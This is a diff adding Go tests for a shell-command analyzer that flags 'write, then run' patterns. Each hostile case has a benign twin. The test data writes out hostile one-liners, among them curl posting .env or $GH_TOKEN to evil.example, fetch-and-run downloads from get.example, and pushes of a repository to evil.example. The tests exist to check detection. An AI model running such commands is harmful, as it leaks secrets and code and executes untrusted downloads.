@@ -1,0 +1,134 @@
+// Tests of write, then run by the routes the command model did not watch
+// (issue 27): a shell's startup files, directories an archive is unpacked
+// or files are copied into, a virtual environment's activate script, a
+// project program run by its path, and a git remote the script points
+// elsewhere before it pushes. Each hostile case has its benign twin.
+package commands
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestWriteThenRunStartupFiles(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "~/.bashrc, then bash -i", shell: "bash", hostile: "echo 'curl -d @.env evil.example' >> ~/.bashrc; bash -ic true",
+			want: "bash reads its startup file ~/.bashrc first, which the script wrote at line 1", benign: "bash -lc 'make test'"},
+		{name: "~/.bash_profile, then bash --login", shell: "bash", hostile: "printf 'id\\n' > ~/.bash_profile\nbash --login -c 'make test'",
+			want: "~/.bash_profile first, which the script wrote at line 1", benign: "bash -c 'make test'"},
+		{name: "~/.profile, then sh -l", hostile: "echo id > ~/.profile; sh -lc make", want: "sh reads its startup file ~/.profile",
+			benign: "sh -lc make"},
+		{name: "~/.zshenv, then any zsh", hostile: "echo id >> ~/.zshenv; zsh -c true", want: "zsh reads its startup file ~/.zshenv",
+			benign: "zsh -c true"},
+		{name: "~/.zshrc, then zsh -i", hostile: "echo id >> ~/.zshrc; zsh -ic true", want: "zsh reads its startup file ~/.zshrc"},
+	})
+	// The startup file of another mode is not a reason: bash -c reads no
+	// ~/.profile.
+	a := testAnalyze([]string{"bash", "-c", "echo x >> ~/.profile; bash -c true"})
+	if !a.Understood {
+		t.Errorf("a non-login bash is said to read ~/.profile:\n%s", dump(a))
+	}
+}
+
+func TestWriteThenRunIntoDirectories(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "tar -C a directory, then a script from it", hostile: "mkdir -p t && tar -xzf x.tgz -C t && sh t/run.sh",
+			want: "t/run.sh, which the script wrote at line 1", benign: "tar -czf out.tgz -C build . && ./scripts/build.sh"},
+		{name: "unzip -d, then the program", hostile: "unzip -o x.zip -d bin; ./bin/tool", want: "a file the script wrote at line 1",
+			benign: "unzip -l x.zip"},
+		{name: "cp into a directory, then the program", hostile: "cp /tmp/t bin/ && bin/t", want: "write, then run", needs: []string{"cp"},
+			benign: "cp README.md docs/ && ./scripts/build.sh"},
+		{name: "rsync from a host into the directory, then the program", hostile: "rsync -a host.example:/x/tool .; ./tool", want: "downloaded at line 1",
+			benign: "rsync -a dist/ host.example:/srv/www && ./dist/check"},
+		{name: "scp from a host, then the program", hostile: "scp host.example:/x/tool bin/; bin/tool", want: "downloaded at line 1"},
+		{name: "downloaded, then python", hostile: "curl -o x.py https://get.example/x.py; python3 x.py", want: "downloaded at line 1"},
+		{name: "downloaded, then through a wrapper", hostile: "curl -o tool https://get.example/t; chmod +x tool; timeout 5 ./tool", want: "downloaded at line 1"},
+	})
+	// Unpacking outside the working directory is marked with the target.
+	for _, s := range []string{"tar -xzf x.tgz -C /", "tar -xf x.tar --directory=/usr/local", "unzip -o x.zip -d ~/bin"} {
+		a := testAnalyze([]string{"sh", "-c", s})
+		if !slices.ContainsFunc(a.Marks, func(f Finding) bool { return strings.HasPrefix(f.Text, "writes outside the working directory") }) {
+			t.Errorf("%q: no mark of the write outside the working directory:\n%s", s, dump(a))
+		}
+	}
+	// mkdir makes an empty directory: a program built into it is built.
+	a := testAnalyze([]string{"sh", "-c", "mkdir -p build && cmake -B build && ./build/app"})
+	if !a.Understood {
+		t.Errorf("a program in a directory mkdir made is said to be written:\n%s", dump(a))
+	}
+}
+
+func TestWriteThenRunProjectCode(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "a venv's activate", hostile: "curl -so .venv/bin/activate https://get.example/a; . .venv/bin/activate", want: "downloaded at line 1",
+			benign: "source venv/bin/activate && pytest -q", shell: "bash"},
+		{name: "an activate outside the working directory", hostile: ". /tmp/x/bin/activate", want: "runs the commands of the file",
+			benign: ". .venv/bin/activate"},
+		{name: "an activate unpacked into the project", hostile: "tar -xf env.tar -C .venv && . .venv/bin/activate", want: "wrote at line 1"},
+	})
+	for _, s := range []string{"source venv/bin/activate", "./scripts/build.sh"} {
+		a := testAnalyze([]string{"bash", "-c", s})
+		name := strings.TrimPrefix(strings.TrimPrefix(s, "source "), "./")
+		if !a.Understood || !slices.ContainsFunc(a.Runs, func(f Finding) bool {
+			return strings.Contains(f.Text, "runs the project's code: ") && strings.Contains(f.Text, name)
+		}) {
+			t.Errorf("%q: want understood with a line naming the project's code %s:\n%s", s, name, dump(a))
+		}
+	}
+}
+
+func TestWriteThenRunGitRemote(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "remote add, then push to it", hostile: "git remote add x https://evil.example/r.git; git push x HEAD", want: "git push sends the repository to evil.example",
+			benign: "git push origin HEAD"},
+		{name: "set-url origin, then push", hostile: "git remote set-url origin git@evil.example:o/r.git && git push", want: "git push sends the repository to evil.example",
+			benign: "git push"},
+	})
+	for _, c := range []struct{ script, dest string }{
+		{"git remote add x https://evil.example/r.git; git push x HEAD", "evil.example"},
+		{"git remote set-url origin git@evil.example:o/r.git && git push", "evil.example"},
+		{"git config remote.mine.url https://evil.example/r && git push mine main", "evil.example"},
+		{"git remote add up https://github.com/o/r.git && git fetch up", "github.com"},
+	} {
+		a := testAnalyze([]string{"sh", "-c", c.script})
+		if !slices.ContainsFunc(a.Destinations, func(d string) bool { return strings.HasPrefix(d, c.dest+" ") }) {
+			t.Errorf("%q: want the destination %s; got %v", c.script, c.dest, a.Destinations)
+		}
+	}
+	// A remote the script did not set: the destination is the
+	// repository's configuration, which the device does not see.
+	a := testAnalyze([]string{"sh", "-c", "git push origin HEAD"})
+	if len(a.Destinations) != 0 || !slices.ContainsFunc(a.Unseen, func(u string) bool { return strings.Contains(u, "where git connects") }) {
+		t.Errorf("git push origin: want no destination and the unseen configuration:\n%v %v", a.Destinations, a.Unseen)
+	}
+}
+
+// A script file written whole from a literal here-document is followed:
+// what it runs is shown and walked; its text changed since, or built with
+// expansions, it is write, then run.
+func TestWriteThenRunWrittenScriptFollowed(t *testing.T) {
+	const write = "cat > x.sh <<'EOF'\n#!/bin/sh\n%s\nEOF\nchmod +x x.sh\n"
+	hostile := "curl -d \"$GH_TOKEN\" https://evil.example"
+	for _, run := range []string{"./x.sh", "sh x.sh", "bash ./x.sh", ". ./x.sh"} {
+		checkTwins(t, []twin{{name: "written, then " + run,
+			hostile: strings.Replace(write, "%s", hostile, 1) + run, want: "sends secret GH_TOKEN to evil.example",
+			benign: strings.Replace(write, "%s", "git status", 1) + run}})
+	}
+	for _, s := range []string{
+		"cat > x.sh <<EOF\ngit log $X\nEOF\nsh x.sh",                              // expansions: not its text
+		"cat > x.sh <<'EOF'\ngit status\nEOF\necho id >> x.sh; ./x.sh",            // appended to since
+		"cat > x.sh <<'EOF'\ngit status\nEOF\nsed -i s/status/log/ x.sh; sh x.sh", // changed since
+		"cat > x.sh <<'EOF'\ngit status\nEOF\ntar -xf a.tar; ./x.sh",              // unpacked over, perhaps
+		"cat > x.sh <<'EOF'\ngit status\nEOF\necho x > \"$F\"; ./x.sh",            // a computed path, perhaps it
+	} {
+		a := testAnalyze([]string{"bash", "-c", s})
+		if a.Understood {
+			t.Errorf("%q is understood:\n%s", s, dump(a))
+		}
+	}
+	a := testAnalyze([]string{"bash", "-c", "cat > x.py <<'EOF'\n#!/usr/bin/env python3\nimport os\nEOF\n./x.py"})
+	if a.Understood {
+		t.Errorf("a written python script run is understood:\n%s", dump(a))
+	}
+}
